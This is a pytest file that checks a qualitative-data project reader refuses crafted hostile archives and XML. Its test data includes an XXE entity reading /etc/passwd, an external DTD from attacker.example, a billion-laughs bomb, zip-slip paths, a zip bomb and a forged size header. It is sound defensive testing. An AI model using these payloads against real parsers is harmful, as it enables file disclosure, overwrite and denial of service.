"""Crafted malicious archives and XML are refused with a RefiError naming the file and the rule."""

from __future__ import annotations

import io
import os
import re
import struct
import zipfile

import pytest

from qualkit.refi import RefiError, RefiLimits, RefiSafetyError, read_qdc, read_qdpx
from tests.refi import make_qdpx

GOOD_QDE = (
    '<Project xmlns="urn:QDA-XML:project:1.0" name="p"><Sources>'
    '<TextSource guid="11111111-1111-4111-8111-111111111111" name="a" plainTextPath="internal://a.txt"/>'
    "</Sources></Project>"
)
XXE = """<?xml version="1.0"?>
<!DOCTYPE Project [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Project xmlns="urn:QDA-XML:project:1.0" name="&secret;"/>"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE Project SYSTEM "http://attacker.example/evil.dtd">
<Project xmlns="urn:QDA-XML:project:1.0" name="p"/>"""
LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE Project [\n <!ENTITY lol "lol">\n'
    + "".join(f' <!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">\n' for n in range(1, 10))
    + ']>\n<Project xmlns="urn:QDA-XML:project:1.0" name="&lol9;"/>'
)


def _zip(path, members: list[tuple[str, bytes]], *, compression=zipfile.ZIP_DEFLATED):
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=compression)
    return path


@pytest.mark.parametrize(
    "name",
    ["../evil.txt", "sources/../../evil.txt", "/etc/cron.d/evil", "C:/Windows/evil.txt", "..\\evil.txt"],
    ids=["dotdot", "nested-dotdot", "absolute", "drive", "backslash"],
)
def test_safety_zip_slip_is_refused(tmp_path, name):
    path = _zip(tmp_path / "slip.qdpx", [("project.qde", GOOD_QDE.encode()), (name, b"pwned")])
    with pytest.raises(RefiSafetyError, match=re.escape(f"slip.qdpx: entry {name!r}") + ".*zip slip"):
        read_qdpx(path)
    assert not (tmp_path.parent / "evil.txt").exists()


def test_safety_duplicate_entries_are_refused(tmp_path):
    with pytest.warns(UserWarning, match="Duplicate name"):
        members = [("project.qde", GOOD_QDE.encode()), ("project.qde", b"<Project name='x'/>")]
        path = _zip(tmp_path / "dup.qdpx", members)
    with pytest.raises(RefiSafetyError, match="entry 'project.qde' appears twice"):
        read_qdpx(path)


@pytest.mark.parametrize(
    ("document", "rule"),
    [(XXE, "DOCTYPE declaration"), (EXTERNAL_DTD, "DOCTYPE declaration"), (LAUGHS, "DOCTYPE declaration")],
    ids=["xxe-external-entity", "external-dtd", "billion-laughs"],
)
def test_safety_dtd_and_entities_are_refused_in_projects(tmp_path, document, rule):
    path = make_qdpx(tmp_path / "evil.qdpx", document)
    with pytest.raises(RefiSafetyError, match=rf"evil.qdpx:project.qde: the XML has a {rule}.*XXE.*entity-expansion"):
        read_qdpx(path)


@pytest.mark.parametrize("document", [XXE, LAUGHS], ids=["xxe", "billion-laughs"])
def test_safety_dtd_and_entities_are_refused_in_codebooks(tmp_path, document):
    path = tmp_path / "evil.qdc"
    path.write_text(document.replace("Project", "CodeBook"))
    with pytest.raises(RefiSafetyError, match=r"evil.qdc: the XML has a DOCTYPE declaration"):
        read_qdc(path)


def test_safety_dtd_in_a_utf16_document_is_refused(tmp_path):
    """The rule holds for UTF-16 documents, where a byte scan for '<!DOCTYPE' would miss it."""
    path = make_qdpx(tmp_path / "evil.qdpx", XXE.encode("utf-16"))
    with pytest.raises(RefiSafetyError, match="DOCTYPE"):
        read_qdpx(path)


def test_safety_too_many_entries(tmp_path):
    members = [("project.qde", GOOD_QDE.encode())] + [(f"sources/{n}.txt", b"") for n in range(10_001)]
    path = _zip(tmp_path / "many.qdpx", members, compression=zipfile.ZIP_STORED)
    with pytest.raises(RefiSafetyError, match=r"many.qdpx: 10,002 entries in the archive \(limit 10,000\)"):
        read_qdpx(path)


def test_safety_zip_bomb_ratio(tmp_path):
    bomb = b"\0" * (20 * 1024 * 1024)
    path = _zip(tmp_path / "bomb.qdpx", [("project.qde", GOOD_QDE.encode()), ("sources/a.txt", bomb)])
    with pytest.raises(RefiSafetyError, match=r"bomb.qdpx: entry 'sources/a.txt' expands .* looks like a zip bomb"):
        read_qdpx(path)


def test_safety_oversized_entry(tmp_path):
    text = os.urandom(6000).hex().encode()  # incompressible enough to pass the ratio rule
    path = _zip(tmp_path / "big.qdpx", [("project.qde", GOOD_QDE.encode()), ("sources/a.txt", text)])
    limits = RefiLimits(max_entry_bytes=5000)
    with pytest.raises(RefiSafetyError, match=r"big.qdpx: entry 'sources/a.txt' unpacks to 12,000 bytes \(limit 5,000"):
        read_qdpx(path, limits=limits)
    assert read_qdpx(path).sources[0].text == text.decode()


def test_safety_total_size(tmp_path):
    members = [("project.qde", GOOD_QDE.encode())] + [(f"media/{n}.bin", os.urandom(3000)) for n in range(4)]
    path = _zip(tmp_path / "total.qdpx", members)
    with pytest.raises(RefiSafetyError, match=r"total.qdpx: entries unpack to [\d,]+ bytes \(limit 10,000\)"):
        read_qdpx(path, limits=RefiLimits(max_total_bytes=10_000))


def test_safety_header_that_lies_about_the_size(tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("project.qde", GOOD_QDE)
        archive.writestr("sources/a.txt", "A" * 100_000)
    data = bytearray(buffer.getvalue())
    name = b"sources/a.txt"
    local = data.find(name) - 30
    assert data[local:local + 4] == b"PK\x03\x04"
    struct.pack_into("<I", data, local + 22, 10)  # local header: uncompressed size
    central = data.rfind(b"PK\x01\x02", 0, data.rfind(name))
    struct.pack_into("<I", data, central + 24, 10)  # central directory: uncompressed size
    path = tmp_path / "liar.qdpx"
    path.write_bytes(bytes(data))
    with pytest.raises(RefiError, match=r"liar.qdpx: entry 'sources/a.txt' is corrupt"):
        read_qdpx(path)


def test_safety_codebook_file_size_limit(tmp_path):
    path = tmp_path / "big.qdc"
    path.write_bytes(b"<CodeBook>" + b" " * 2000 + b"</CodeBook>")
    with pytest.raises(RefiSafetyError, match=r"big.qdc: 2,021 bytes \(limit 1,000\)"):
        read_qdc(path, limits=RefiLimits(max_entry_bytes=1000))


def test_safety_source_paths_never_reach_the_disk(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET")
    qde = GOOD_QDE.replace("internal://a.txt", str(secret)).replace('name="a"', 'name="stolen"')
    relative = GOOD_QDE.replace("internal://a.txt", "../../secret.txt").replace(
        "11111111-1111-4111-8111-111111111111", "22222222-2222-4222-8222-222222222222")
    for document in (qde, relative):
        project = read_qdpx(make_qdpx(tmp_path / "p.qdpx", document))
        assert project.sources == ()
        assert any("never read" in warning for warning in project.warnings)


def test_safety_deeply_nested_codes(tmp_path):
    guid = "{:08d}-0000-4000-8000-000000000000"
    codes = "".join(f'<Code guid="{guid.format(n)}" name="c{n}" isCodable="true">' for n in range(150))
    qde = f'<Project name="deep"><CodeBook><Codes>{codes}{"</Code>" * 150}</Codes></CodeBook></Project>'
    with pytest.raises(RefiSafetyError, match=r"deep.qdpx: codes nested more than 100 deep"):
        read_qdpx(make_qdpx(tmp_path / "deep.qdpx", qde))
